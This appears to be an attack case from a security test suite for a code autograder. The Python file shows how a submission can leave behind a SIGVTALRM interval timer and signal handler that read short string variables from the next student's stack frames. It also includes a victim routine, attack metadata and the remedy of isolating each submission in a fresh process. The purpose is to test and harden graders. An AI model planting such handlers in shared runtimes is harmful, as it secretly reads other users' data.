# SPDX-License-Identifier: MIT
"""Goal:  what the next student's program has in its variables.
Means: an interval timer of the kernel and a signal handler, both left behind. The handler is called
       between two instructions of whoever runs in the main thread, and is handed that frame. The
       attacker's code runs after its turn was over, marked and answered.
"""

import signal
import time

from attack import DONE, attempting, denied, honest, loot, submit

EVERY = 0.002  # seconds
SHORT = 64  # characters: names, numbers and secrets, not whole texts


def handler():
    def look(number, frame):
        while frame:
            for value in frame.f_locals.values():
                if isinstance(value, str) and len(value) <= SHORT:
                    look.seen.add(value)
            frame = frame.f_back

    look.seen = set()
    return look


def run(brief):
    submit("0")
    if not brief.again:
        attempting()
        signal.signal(signal.SIGVTALRM, handler())
        signal.setitimer(signal.ITIMER_VIRTUAL, EVERY, EVERY)
        return DONE
    signal.setitimer(signal.ITIMER_VIRTUAL, 0)
    look = signal.getsignal(signal.SIGVTALRM)
    if not getattr(look, "seen", None):
        return denied("SIGVTALRM", "nobody was overheard")
    loot(repr(look.seen))
    return DONE


def victim(brief):
    """Has its work in a variable, and calculates for fifty milliseconds of processor time."""
    work = brief.secret
    end = time.process_time() + 0.05
    while time.process_time() < end:
        letters = sorted(work)
    return honest(brief) if letters else None


ATTACK = {
    "effect": "the next student's variables are read",
    "means": "an interval timer and its handler, which is handed the next student's frames",
    "oracle": "secret:victim",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "id": "WARM-11",
    "attack_id": "T1056, CWE-913",
    "remedy": "a process of its own for each submission, started fresh",
    "refs": ["setitimer(2)", "signal.signal"],
    "run": run,
    "victim": victim,
}
